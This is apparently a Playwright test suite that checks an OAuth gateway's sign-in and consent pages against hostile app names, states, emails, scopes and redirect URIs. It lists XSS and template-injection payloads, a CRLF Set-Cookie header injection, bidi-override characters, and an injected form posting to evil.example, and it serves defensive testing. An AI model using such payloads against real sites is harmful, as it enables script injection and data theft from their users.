"""Pages against apps and users that mean harm by what they are called and by what they send."""

import re
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Page, expect

from machpay_gateway.core.errors import InputError
from tests.chromium import BrowserErrors
from tests.oauth.browser.sites import STRANGE_SCOPE, Site, allow, sign_in

NAMES = [
    "<script>alert(1)</script><!--<form action=//evil.example><base href=//evil.example>",
    "\"><img src=x onerror=alert(1)><meta http-equiv=refresh content='0;url=//evil.example'>",
    "'-alert(1)-' autofocus onfocus=alert(1) x='</title></style><script>alert(1)</script>",
    "{{ 7 * 7 }}${7*7}<%= 7*7 %>{% raw %}&lt;b&gt;not bold&lt;/b&gt;",
    "<a href='javascript:alert(1)'>MachPay</a>",
    "W" * 100,
]
_SKELETON = "() => [...document.all].map(it => [it.tagName, ...it.getAttributeNames()].join(' '))"


def skeleton(page: Page) -> list[str]:
    """Return what *page* is made of: each element with the names of its attributes."""
    made_of: list[str] = page.evaluate(_SKELETON)
    return made_of


@pytest.fixture(scope="package")
def plain() -> dict[str, list[str]]:
    """The pages' skeletons for an app that means no harm, once a test has seen them."""
    return {}


@pytest.mark.parametrize("name", NAMES)
def test_names_states_and_e_mails_are_text_and_nothing_else(
    site: Site, page: Page, browser_errors: BrowserErrors, plain: dict[str, list[str]], name: str
) -> None:
    def visit(name: str, state: str, email: str) -> dict[str, list[str]]:
        client, seen = site.new_client(name), {}
        page.goto(site.authorize_url(client, state=state))
        expect(page.get_by_text(name, exact=True)).to_be_visible()
        seen["sign-in"] = skeleton(page)
        sign_in(page, f"{state}@example.org", "not the password")
        expect(page.get_by_role("alert")).to_be_visible()
        expect(page.get_by_label("Email")).to_have_value(f"{state}@example.org")
        seen["told"] = skeleton(page)
        sign_in(page, email)
        expect(page.get_by_role("heading")).to_have_text(f"Allow {name} to access your account?")
        expect(page.get_by_text(f"Not {email}?")).to_be_visible()
        seen["consent"] = skeleton(page)
        allow(page)
        expect(page.get_by_role("heading")).to_have_text("The app")
        assert site.app.received["state"] == state
        return seen

    browser_errors.expect("400 (Bad Request)")
    if not plain:
        plain |= visit("Ada's app", "s-1", site.new_user().email)
        page.context.clear_cookies()
    local_part = re.sub(r"[\s@]", "", name.casefold())[:60]
    hostile = visit(name, f"{name}\"'><script>alert(2)</script>", site.new_user(f"{local_part}@example.org").email)
    assert hostile == plain


def test_a_scope_is_text_whatever_it_is_called(site: Site, page: Page, email: str) -> None:
    page.goto(site.authorize_url(site.new_client("An app", scopes=[STRANGE_SCOPE])))
    sign_in(page, email)
    expect(page.get_by_label(STRANGE_SCOPE)).to_be_checked()
    assert page.locator("img").count() == 0
    allow(page)
    expect(page.get_by_role("heading")).to_have_text("The app")
    assert "code" in site.app.received


@pytest.mark.parametrize("mark", ["\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u200b", "\ufeff", "\x1b", "\n"])
def test_no_app_and_no_user_is_called_by_what_cannot_be_seen_or_turns_text_round(site: Site, mark: str) -> None:
    with pytest.raises(InputError, match="cannot be shown"):
        site.new_client(f"Ada{mark}ppa")
    with pytest.raises(InputError, match="not an email"):
        site.portal.call(site.gateway.users.create, site.client.account_id, f"ada{mark}moc@example.org")


def test_a_state_that_turns_text_round_comes_back_and_turns_none(site: Site, page: Page, email: str) -> None:
    state = "\u202egnol\u2066\u200f\u0000\r\nSet-Cookie: a=b"
    page.goto(site.authorize_url(state=state))
    sign_in(page, email)
    assert "\u202e" not in page.content()
    allow(page)
    expect(page.get_by_role("heading")).to_have_text("The app")
    assert site.app.received["state"] == state
    assert page.context.cookies(site.app.url) == page.context.cookies(site.url)  # one host, whatever the port


@pytest.mark.parametrize("name", ["אפל (", "علي 1", "!!! ש"])
def test_a_name_that_is_read_from_the_right_stays_in_its_place(site: Site, page: Page, name: str) -> None:
    site.sign_in_as_reader(page)
    page.goto(site.authorize_url(site.new_client(name)))
    heading = page.get_by_role("heading", name=f"Allow {name} to access your account?")
    before, named, after = heading.evaluate(
        """it => {
            it.style.whiteSpace = "nowrap";  // where each part is on the line, however wide the page
            return [...it.childNodes].map(node => {
                const range = document.createRange();
                range.selectNodeContents(node);
                const [{left, right}] = range.getClientRects();
                return [left, right];
            });
        }"""
    )
    assert before[0] < before[1] <= named[0] < named[1] <= after[0] < after[1]


def test_what_a_name_paints_beyond_its_lines_is_cut_off(site: Site, page: Page) -> None:
    # As marks do that are heaped on a letter, where a font has room for them: here a shadow stands for these.
    heaped = "() => document.querySelectorAll('bdi').forEach(it => it.style.boxShadow = '0 0 0 200px red')"
    page.goto(site.authorize_url())
    for title, selector in (
        ("Sign in", "label, input:not([type='hidden']), button"),
        ("Allow access", "fieldset, .choice, .brand"),
    ):
        expect(page).to_have_title(f"{title} · MachPay")
        page.evaluate("document.activeElement.blur()")
        elements = page.locator(selector).all()
        before = [each.screenshot() for each in elements]
        page.evaluate(heaped)
        assert [each.screenshot() for each in elements] == before
        site.sign_in_as_reader(page)
        page.reload()


@pytest.mark.parametrize("uri", ["javascript:alert(1)//", "data:text/html,<script>alert(1)</script>", "//evil.example"])
def test_a_redirect_uri_that_is_not_the_apps_leaves_the_user_where_they_are(
    site: Site, page: Page, browser_errors: BrowserErrors, uri: str
) -> None:
    browser_errors.expect("400 (Bad Request)")
    page.goto(site.authorize_url(redirect_uri=uri))
    expect(page.get_by_role("alert")).to_contain_text("redirect_uri is not registered")
    assert (page.url.startswith(site.url), page.locator("a, form, script").count()) == (True, 0)
    assert parse_qs(urlsplit(page.url).query)["redirect_uri"] == [uri]


def test_a_script_that_got_into_a_page_would_not_run(site: Site, page: Page, browser_errors: BrowserErrors) -> None:
    injected = """() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        const image = document.createElement("img");
        image.setAttribute("onerror", "window.ran = true");
        image.src = "data:image/png,x";
        document.body.append(script, image);
        document.querySelector("h1").setAttribute("onclick", "window.ran = true");
        document.querySelector("h1").click();
        return window.ran === true;
    }"""
    for stopped in ("inline script", "inline event handler", "the image"):
        browser_errors.expect(stopped)
    page.goto(site.authorize_url())
    for title in ("Sign in", "Allow access"):
        expect(page).to_have_title(f"{title} · MachPay")
        with page.expect_console_message(lambda message: "the image" in message.text):
            assert page.evaluate(injected) is False
        assert page.evaluate("window.ran") is None
        site.sign_in_as_reader(page)
        page.reload()


def test_a_form_that_got_into_a_page_would_not_be_sent(site: Site, page: Page, browser_errors: BrowserErrors) -> None:
    page.goto(site.authorize_url())
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    browser_errors.expect("Sending form data to 'https://evil.example/'")
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate(
            """() => {
                document.forms[0].action = "https://evil.example/";
                document.forms[0].submit();
            }"""
        )
    assert requested == []
